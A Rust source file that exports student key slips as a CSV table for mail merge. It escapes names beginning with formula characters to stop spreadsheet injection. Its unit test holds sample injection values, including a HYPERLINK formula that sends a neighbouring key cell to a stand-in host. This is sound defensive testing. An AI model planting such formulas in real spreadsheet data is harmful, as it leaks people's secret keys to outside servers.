//! Slips as a table, for letters and mails that a word processor makes.

use std::borrow::Cow;

use zeroize::Zeroizing;

use super::slip::{Place, Slip};
use crate::commands::keys::KeysError;

const HEADER: [&str; 8] =
    ["Name", "ID Number", "Key", "Fingerprint", "Link", "Page SHA-256", "Server", "Course"];

/// Writes the table: a header, and a row for each student.
pub(super) fn write(place: &Place, slips: &[Slip<'_>]) -> Result<Zeroizing<String>, KeysError> {
    let mut rows = csv::Writer::from_writer(Vec::new());
    let page = place.page.as_ref();
    let failed = |error: csv::Error| KeysError::Table(error.to_string());
    rows.write_record(HEADER).map_err(failed)?;
    for slip in slips {
        let link = page.map(|page| slip.link(page)).unwrap_or_default();
        let name = without_formula(slip.name);
        let record = [
            name.as_ref(),
            slip.id,
            &slip.key.expose_text(),
            &slip.key.fingerprint(),
            &link,
            page.map_or("", |page| &page.hash),
            place.server.as_deref().unwrap_or_default(),
            place.audience.as_deref().unwrap_or_default(),
        ];
        rows.write_record(record).map_err(failed)?;
    }
    let bytes = rows.into_inner().map_err(|error| KeysError::Table(error.to_string()))?;
    let text = String::from_utf8(bytes).map_err(|error| KeysError::Table(error.to_string()))?;
    Ok(Zeroizing::new(text))
}

/// A name that no spreadsheet takes for a formula, which could send the keys beside it elsewhere: students can choose
/// the names of some systems.
fn without_formula(name: &str) -> Cow<'_, str> {
    if name.starts_with(['=', '+', '-', '@']) { format!("'{name}").into() } else { name.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_is_no_formula() {
        for name in ["=HYPERLINK(\"http://x/\"&C2)", "+1", "-1", "@SUM(1)"] {
            assert_eq!(without_formula(name), format!("'{name}"));
        }
        assert_eq!(without_formula("Ada Able-Best = A+"), "Ada Able-Best = A+");
    }
}
